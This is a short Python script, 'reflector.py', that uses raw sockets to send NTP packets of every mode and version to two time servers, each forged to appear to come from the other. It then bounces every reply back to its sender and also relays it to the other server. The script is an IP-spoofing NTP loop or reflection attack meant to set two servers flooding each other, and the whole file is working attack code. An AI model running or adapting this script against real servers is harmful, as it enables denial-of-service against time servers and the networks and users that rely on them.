"""reflector.py A B OWN: makes two time servers talk to each other, if they can be made to.

A packet of each mode and version, and of some lengths, goes to each of the two in the name of the other, and from here.
Whatever comes here goes back to where it came from, and to the other one in the name of the first. Says when the packets
are out, and how many came back; goes on until it is ended.
"""

import socket
import struct
import sys
import time

NTP_PORT = 123
MOST_TOLD = 100_000
TAILS = (b"", b"\0\0\0\0", struct.pack("!I", 1) + bytes(16), struct.pack("!HH", 0x1234, 28) + bytes(24))


def ip_packet(source, target, payload):
    udp = struct.pack("!HHHH", NTP_PORT, NTP_PORT, 8 + len(payload), 0)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(payload), 0, 0, 64, socket.IPPROTO_UDP, 0,
                         socket.inet_aton(source), socket.inet_aton(target))
    return header + udp + payload


def packets():
    now = struct.pack("!Q", int((time.time() + 2208988800) * 2**32))
    for mode in range(8):
        for version in range(8):
            header = bytes((version << 3 | mode, 1, 6, 0xEC)) + bytes(8) + b"LOOP" + now * 4
            for tail in TAILS:
                yield header + tail
            yield bytes((version << 3 | mode, 2)) + bytes(10)


def main(a, b, own):
    other = {a: b, b: a}
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    plain = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    plain.bind((own, NTP_PORT))
    injected = 0
    for target in (a, b):
        for packet in packets():
            raw.sendto(ip_packet(other[target], target, packet), (target, 0))
            plain.sendto(packet, (target, NTP_PORT))
            injected += 2
            time.sleep(0.001)
    print("injected", injected, flush=True)
    for received in range(1, MOST_TOLD):
        packet, (source, port) = plain.recvfrom(2048)
        plain.sendto(packet, (source, port))
        raw.sendto(ip_packet(source, other[source], packet), (other[source], 0))
        print("received", received, flush=True)


main(*sys.argv[1:])
